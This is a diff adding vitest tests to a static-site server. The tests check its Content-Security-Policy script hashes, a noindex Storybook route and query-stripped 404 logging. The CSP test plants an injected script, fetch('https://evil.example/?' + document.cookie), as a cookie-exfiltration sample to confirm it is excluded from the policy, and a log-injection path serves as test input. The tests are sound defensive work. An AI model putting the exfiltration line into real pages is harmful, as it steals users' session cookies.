@@ -1,9 +1,11 @@
 // The site server over HTTP, on a small site of its own (no build needed).
-import { chmod, mkdtemp, rm, unlink } from "node:fs/promises";
+import { chmod, mkdir, mkdtemp, rm, unlink, writeFile } from "node:fs/promises";
 import type { AddressInfo } from "node:net";
+import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { defaultConfig } from "@marketing/widgets";
 import { createSiteServer, type SiteServer, type SiteServerOptions } from "./site-server";
+import { INLINE_SCRIPTS_FILE, scriptHash } from "./site-csp";
 import { writeSite, type SiteDirs } from "./test-support/site-fixture";
 import { holdSlowClients, rawStatus } from "./test-support/clients";
 
@@ -103,6 +105,25 @@ describe("byte ranges", () => {
   });
 });
 
+describe("a page's script policy", () => {
+  it("allows the inline scripts the build listed, never one found in the page besides them", async () => {
+    const own = 'document.documentElement.dataset.js="1"';
+    const slipped = "fetch('https://evil.example/?' + document.cookie)";
+    await writeSite(dirs.root, {
+      "blog/a-post/index.html": `<!DOCTYPE html><html><head><script>${own}</script></head><body><article><script>${slipped}</script></article></body></html>`,
+    });
+    await writeFile(join(dirs.root, INLINE_SCRIPTS_FILE), JSON.stringify([scriptHash(own)]));
+    const { url } = await serve();
+    for (const path of ["/blog/a-post", "/about", "/nowhere"]) {
+      const policy = (await fetch(`${url}${path}`)).headers.get("content-security-policy") ?? "";
+      const scriptSrc = /script-src ([^;]*)/.exec(policy)?.[1] ?? "";
+      expect(scriptSrc, path).toContain(scriptHash(own));
+      expect(scriptSrc, path).not.toContain(scriptHash(slipped));
+      expect(scriptSrc, path).not.toContain("unsafe-inline");
+    }
+  });
+});
+
 describe("the embed example page", () => {
   it("carries a policy built from its own configuration block, framed by the site only", async () => {
     const { url } = await serve();
@@ -138,5 +159,54 @@ describe("slow and numerous clients", () => {
     clients.destroy();
     await expect.poll(async () => (await fetch(url)).status, { timeout: 3000 }).toBe(200);
     expect(await rawStatus(port, "GET /robots.txt HTTP/1.1\r\nHost: x\r\n\r\n")).toBe(200);
+  });
+});
+
+describe("the designers' Storybook at /storybook/", () => {
+  it("serves the static build beside the site, kept out of search engines", async () => {
+    const storybookDir = `${dirs.root}/storybook`;
+    await mkdir(storybookDir);
+    await writeFile(
+      `${storybookDir}/index.html`,
+      '<!doctype html><meta name="robots" content="noindex" /><title>Storybook</title>',
+    );
+    await writeFile(`${storybookDir}/index.json`, '{"entries":{}}');
+    const { url } = await serve({ storybookDir });
+    const moved = await fetch(`${url}/storybook`, { redirect: "manual" });
+    expect(moved.status).toBe(301);
+    expect(moved.headers.get("location")).toBe("/storybook/");
+    const manager = await fetch(`${url}/storybook/`);
+    expect(manager.status).toBe(200);
+    expect(manager.headers.get("x-robots-tag")).toBe("noindex, nofollow");
+    expect(await manager.text()).toContain("<title>Storybook</title>");
+    expect((await fetch(`${url}/storybook/index.json`)).headers.get("x-robots-tag")).toBe(
+      "noindex, nofollow",
+    );
+  });
+
+  it("says how to get it while it is not built", async () => {
+    const { url } = await serve({ storybookDir: `${dirs.root}/no-storybook` });
+    const missing = await fetch(`${url}/storybook/`);
+    expect(missing.status).toBe(404);
+    expect(await missing.text()).toContain("npm run build-storybook");
+  });
+});
+
+describe("a page not found", () => {
+  it("is logged with its path and referrer, never its query, one JSON line each", async () => {
+    const lines: string[] = [];
+    const { url } = await serve({ logNotFound: (line) => lines.push(line) });
+    expect((await fetch(`${url}/`)).status).toBe(200);
+    const missing = await fetch(`${url}/old-offer%0Aforged?email=ada@example.com`, {
+      headers: { referer: "https://news.example/issue-3?token=secret" },
+    });
+    expect(missing.status).toBe(404);
+    expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual([
+      {
+        event: "page_not_found",
+        path: "/old-offer%0Aforged",
+        referrer: "https://news.example/issue-3",
+      },
+    ]);
   });
 });
